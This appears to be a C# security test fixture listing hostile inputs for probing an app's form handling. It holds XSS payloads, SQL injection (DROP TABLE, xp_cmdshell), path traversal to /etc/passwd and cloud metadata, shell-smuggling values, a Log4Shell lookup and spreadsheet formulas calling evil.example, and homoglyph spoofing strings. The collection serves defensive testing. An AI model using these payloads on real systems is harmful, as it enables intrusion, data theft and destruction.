namespace IdeaLab.Tests.Security.Hostile;

/// <summary>What people type into forms to see whether it is only text. Every script in it calls <c>trap()</c>, every element is called <see cref="Mark"/>.</summary>
internal static class HostileTexts
{
    public const string Mark = "hostile";

    private static readonly string[] Elements =
    [
        "a", "abbr", "applet", "area", "article", "audio", "b", "base", "body", "br", "button", "canvas", "datalist", "details", "dialog", "div", "embed", "fieldset", "font", "form", "frame", "frameset", "iframe", "image", "img", "input",
        "keygen", "link", "map", "marquee", "math", "meta", "meter", "noscript", "object", "option", "p", "picture", "plaintext", "portal", "script", "select", "slot", "source", "span", "style", "svg", "table", "template", "textarea", "title", "track", "video", "xmp",
    ];

    private static readonly string[] Handlers =
    [
        "onabort", "onafterprint", "onanimationend", "onauxclick", "onbeforeinput", "onbegin", "onblur", "oncanplay", "onclick", "oncopy", "ondrag", "onend", "onerror", "onfocus", "onfocusin", "onhashchange", "oninput", "oninvalid", "onkeydown",
        "onload", "onloadstart", "onmessage", "onmouseenter", "onmouseover", "onpageshow", "onpaste", "onplay", "onpointerover", "onpopstate", "onreset", "onresize", "onscroll", "onsearch", "onselect", "onshow", "onstart", "onsubmit", "ontoggle", "ontransitionend", "onwheel",
    ];

    private static readonly string[] Schemes =
    [
        "javascript:trap()", "JaVaScRiPt:trap()", " javascript:trap()", "java\tscript:trap()", "java\nscript:trap()", "javascript&colon;trap()", "&#106;avascript:trap()", "&#x6A;&#x61;vascript:trap()", "\u0001javascript:trap()", "javascript://%0Atrap()",
        "vbscript:trap()", "data:text/html,<script>trap()</script>", "data:text/html;base64,PHNjcmlwdD50cmFwKCk8L3NjcmlwdD4=", "data:image/svg+xml,<svg onload=trap()>", "feed:javascript:trap()", "blob:trap()", "view-source:javascript:trap()", "//evil.example/x.js", "\\\\evil.example\\x", "https://user:word@evil.example/",
    ];

    private static readonly string[] Scripts =
    [
        "<script>trap()</script>", "<SCRIPT>trap()</SCRIPT>", "</title><script>trap()</script>", "</textarea><script>trap()</script>", "</style><script>trap()</script>", "</script><script>trap()</script>", "--><script>trap()</script>", "]]><script>trap()</script>",
        "\"><script>trap()</script>", "'><script>trap()</script>", "`><script>trap()</script>", "\" autofocus onfocus=trap() x=\"", "' autofocus onfocus=trap() x='", "<scr<script>ipt>trap()</scr</script>ipt>", "<script src=//evil.example/x.js></script>", "<script\0>trap()</script>",
        "<svg><script>trap()</script></svg>", "<svg/onload=trap()>", "<svg><animate onbegin=trap() attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:trap()>", "<math><mtext><table><mglyph><style><img src=x onerror=trap()>", "<noscript><p title=\"</noscript><img src=x onerror=trap()>\">",
        "<img src=x onerror=trap()>", "<img src=`x`onerror=trap()>", "<img/src='x'/onerror='trap()'>", "<iframe srcdoc='<script>parent.trap()</script>'></iframe>", "<details open ontoggle=trap()>", "<input autofocus onfocus=trap()>", "<template><script>trap()</script></template>",
        "&lt;script&gt;trap()&lt;/script&gt;", "&#60;script&#62;trap()&#60;/script&#62;", "\\u003cscript\\u003etrap()\\u003c/script\\u003e", "%3Cscript%3Etrap()%3C/script%3E", "＜script＞trap()＜/script＞", "<meta http-equiv=refresh content='0;url=javascript:trap()'>", "<base href=//evil.example/>",
        "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{background:url(//evil.example)}</style>", "<div style=\"background:url(javascript:trap())\">", "<form action=//evil.example><input name=password></form>", "<button formaction=javascript:trap()>press</button>", "<a href=javascript:trap() id=hostile>press</a>",
        "<button hx-post=/account/sign-out hx-trigger=load>", "<div hx-on:load=trap()></div>", "<div data-hx-get=/admin hx-trigger=load>", "<b id=csrf name=__RequestVerificationToken>", "<form id=hostile><input name=attributes></form>", "<a id=document name=document>", "<img name=getElementById>",
        "[press](<javascript:trap()>)", "![x](javascript:trap())", "![x](x \"onerror=trap()\")", "[x]: javascript:trap()", "<javascript:trap()>", "[a](data:text/html,<script>trap()</script>)", "**<img src=x onerror=trap()>**", "```html\n<script>trap()</script>\n```", "`<script>trap()</script>`",
        "| a |\n|---|\n| <script>trap()</script> |", "[x](//evil.example)", "<https://evil.example/\" onmouseover=\"trap()>", "# <svg onload=trap()>", "> <script>trap()</script>", "* <script>trap()</script>", "[^1]: <script>trap()</script>", "~~<script>trap()</script>~~", ":script:", "{.hostile onclick=trap()}", "{#hostile}",
    ];

    private static readonly string[] Templates =
    [
        "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "@(7*7)", "@Model.Id", "@{ trap(); }", "@Html.Raw(\"<script>trap()</script>\")", "{% debug %}", "[[${7*7}]]", "{{constructor.constructor('trap()')()}}", "${jndi:ldap://evil.example/a}", "$(id)", "`id`", "{0}", "{1}{2}{3}", "{0:C}", "{}", "%s%s%s%n", "%d", "$1", "\\1", "$&", "{{{{", "}}}}", "{0", "0}",
    ];

    private static readonly string[] Queries =
    [
        "' OR '1'='1", "'; DROP TABLE Ideas; --", "\" OR \"\"=\"", "1; DELETE FROM Votes", "') OR 1=1 --", "' UNION SELECT Email FROM Accounts --", "'; WAITFOR DELAY '0:0:5' --", "'; EXEC xp_cmdshell('dir') --", "[x]", "]", "[", "%", "_", "%_[^]", "\\", "\\%", "NOT", "AND", "OR NEAR(a b)", "\"a\" NEAR/2 \"b\"", "title:x", "-", "--", "*", "\"", "\"\"", "'", "''", "/*", "*/", "NULL", "null", "undefined", "true", "0x31303030",
    ];

    private static readonly string[] Paths =
    [
        "../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2f", "....//....//", "/etc/passwd\0.png", "file:///etc/passwd", "C:\\con\\con", "CON", "NUL", "aux.txt", "~root", "\\\\?\\C:\\", "http://169.254.169.254/latest/meta-data/", "/admin", "//", "/", ".", "..", "?", "#", "a/b", "a?b=c#d", "a%00b", "a%0d%0ab", ";id", "|id", "&& id", "$(touch x)",
    ];

    private static readonly string[] Lines =
    [
        "Subject\r\nBcc: everybody@example.org", "a\nb", "a\rb", "a\r\n\r\n<script>trap()</script>", "a\u2028b", "a\u2029b", "a\u0085b", "a\vb", "a\fb", "a\tb", "\r\n.\r\n", "\n\n\n\n", "   ", "\u00A0", "\u3000", "a" + "\u0000" + "b", "\u0001\u0002\u0003", "\u001B[31mred", "\u007F", "\u0008\u0008", "\uFEFFa", "\uFFFE", "\uFFFD", "\uFFFF",
    ];

    private static readonly string[] Signs =
    [
        "\u202Egnp.exe", "\u202Dabc\u202C", "\u2066abc\u2069", "\u2067עברית", "abc\u200Fdef", "\u061C", "العربية تكتب من اليمين", "a\u200Bb", "a\u200Cb", "a\u200Db", "a\u2060b", "\u00ADsoft", "\u180E", "\u034F", "Z\u0351\u036B\u0343\u036A\u0302a\u0321\u034D\u0332l\u034D\u0335g\u0321o\u0489", "e\u0301", "\u0301", "ﬁ", "İ", "ı", "ſ", "K", "Ω", "ß", "ẞ", "ﷺ", "𝕏𝕐", "𐍈", "👩‍👩‍👧‍👦", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "🇪🇸", "☃︎", "\U000E0041\U000E0042", "аdmin", "раypal", "ＡＢＣ", "①②③", "¿¡ñÑüÜ", "中文字符", "日本語テキスト", "한국어", "ไทย", "நிமி", "‮‮‮", "٠١٢٣", "１２３", "−1", "½", "∞",
    ];

    private static readonly string[] Formulas =
    [
        "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=HYPERLINK(\"http://evil.example\",\"press\")", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=IMPORTXML(\"http://evil.example\")", "＝1+1", "\"=1+1\"", "'=1+1", "a,b;c\td", "\"a\"\"b\"", "a\"\nb", "1E309", "-0", "007",
    ];

    private static readonly string[] Numbers = ["-1", "0", "2147483648", "-2147483649", "9223372036854775808", "1e999", "NaN", "Infinity", "0x7F", "1.5", "1,5", "00000000000000000000000000001", "9999-12-31", "0001-01-01", "2026-02-30", "25:61", "P1Y", "[]", "[object Object]", "{\"a\":1}", "{\"__proto__\":{\"x\":1}}"];

    private static readonly string[] Long =
    [
        new('a', 10_000), new('W', 300), string.Concat(Enumerable.Repeat("Donaudampfschifffahrtsgesellschaft", 30)), string.Concat(Enumerable.Repeat("👩‍👩‍👧‍👦", 60)), new('\u0301', 500), string.Concat(Enumerable.Repeat("<b>", 500)), new('[', 2000), new('(', 2000), new('*', 2000), new('`', 2000), new('>', 1000), new('_', 2000),
        string.Concat(Enumerable.Repeat("![", 1000)), string.Concat(Enumerable.Repeat("[a](", 1000)), string.Concat(Enumerable.Repeat("a.", 2000)) + "!", new string('a', 500) + "@" + new string('a', 500), "https://" + new string('a', 3000), string.Concat(Enumerable.Repeat("@Ana ", 400)), string.Concat(Enumerable.Repeat("- ", 1000)), string.Concat(Enumerable.Repeat("| ", 1500)), new(' ', 5000), new('\n', 3000), new('9', 400),
    ];

    /// <summary>Each once.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        .. Elements.Select(e => $"<{e} id={Mark} onload=trap() onerror=trap() src=x>{e}</{e}>"),
        .. Handlers.Select(h => $"<img id={Mark} src=x {h}=trap()>\" {h}=trap() x=\""),
        .. Schemes.Select(s => $"<a id={Mark} href=\"{s}\">press</a>"), .. Schemes.Select(s => $"[press]({s})"), .. Schemes,
        .. Scripts, .. Templates, .. Queries, .. Paths, .. Lines, .. Signs, .. Formulas, .. Numbers, .. Long,
    ];
}
